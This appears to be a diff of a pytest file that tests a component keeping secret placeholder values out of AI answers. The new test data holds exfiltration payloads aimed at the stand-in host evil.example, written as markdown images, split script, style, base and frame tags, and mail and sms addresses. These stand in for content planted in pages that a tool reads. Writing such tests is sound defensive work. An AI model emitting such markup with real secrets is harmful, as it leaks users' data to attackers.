@@ -61,6 +61,50 @@ def test_address_that_one_value_begins_takes_no_other_value(placeholders: Placeh
         assert placeholders.shown(f"{first}{second}") == f"{opening}{second}"
 
 
+@pytest.mark.parametrize(
+    ("value", "text"),
+    [
+        (".example/", "evil{0}{1}"),
+        (".", "evil{0}example/{1}"),
+        (".example", "evil{0}/{1}"),
+        ("ip", "<scr{0}t>to = '/' + '/evil' + '.example/'; what = '{1}'"),
+        ("yle", "<st{0}>a[x^='{1}']"),
+        ("ba", "<{0}se href=x> {1}"),
+        ("r", "<f{0}ame> {1}"),
+        ("\n[x]: </", "![x][{1}]\n{0}evil/a>\n[{1}]: /b"),
+    ],
+)
+def test_value_that_completes_an_address_or_a_tag_around_itself_takes_no_other_value(
+    value: str, text: str, placeholders: Placeholders
+) -> None:
+    """A page that a private tool has read can hold whatever its author likes."""
+    first, second = named(placeholders, value), named(placeholders)
+    assert second in placeholders.shown(text.format(first, second))
+
+
+def test_values_that_begin_no_address_are_filled_in_beside_each_other(placeholders: Placeholders) -> None:
+    first, second = named(placeholders, "[at] 9:05"), named(placeholders)
+    assert placeholders.shown(f"{first} ({second}): {first}") == f"[at] 9:05 ({SECRET}): [at] 9:05"
+
+
+def test_values_that_may_begin_an_address_stay_out_of_an_answer_that_takes_too_long_to_read(placeholders: Placeholders) -> None:
+    first, second = named(placeholders, "[at] nine"), named(placeholders)
+    text = f"{first} and {second}" + " and" * 200_000
+    assert placeholders.shown(text).startswith(f"{first} and {SECRET} and")
+
+
+def test_letters_with_marks_on_them_are_read_as_parts_of_hosts(placeholders: Placeholders) -> None:
+    name = named(placeholders)
+    for host in ("evil\ufe0f.example", "ev\u034fil.example", "\u0939\u093f\u0928\u094d\u0926\u0940.\u092d\u093e\u0930\u0924"):
+        assert placeholders.shown(f"{host}/{name}") == f"{host}/{name}"
+
+
+@pytest.mark.parametrize("address", ["{p}@evil.example", "jane+{p}@evil.example", "magnet:?xt={p}", "sms:+12025550123?body={p}"])
+def test_mail_and_other_addresses_without_slashes_take_no_value(address: str, placeholders: Placeholders) -> None:
+    text = f"Write to {with_placeholder(address, named(placeholders))} today."
+    assert placeholders.shown(text) == text
+
+
 def test_address_that_an_earlier_turn_has_left_open_takes_no_value(placeholders: Placeholders) -> None:
     name = named(placeholders)
     assert streamed(placeholders, f"{name}>)", before="![x](<https://evil.example/?q= ") == f"{name}>)"
@@ -97,7 +141,7 @@ def test_placeholder_whose_type_was_altered_is_refused_without_its_brackets_too(
             placeholders.check(f"It is {altered}.")
 
 
-@pytest.mark.parametrize("part", ["<", "<!--", "<![", "[", "![", "](", "<a b='", "*a_", "a.", "\\", "[a](", "<a_1_"])
+@pytest.mark.parametrize("part", ["<", "<!--", "<![", "[", "![", "](", "<a b='", "*a_", "a.", "\\", "[a](", "<a_1_", "tel:", "a@"])
 def test_hostile_texts_are_read_in_time(part: str, placeholders: Placeholders) -> None:
     name = named(placeholders)
     assert name in placeholders.shown(f"<img src='//evil.example/{name}'>{part * 20_000}")
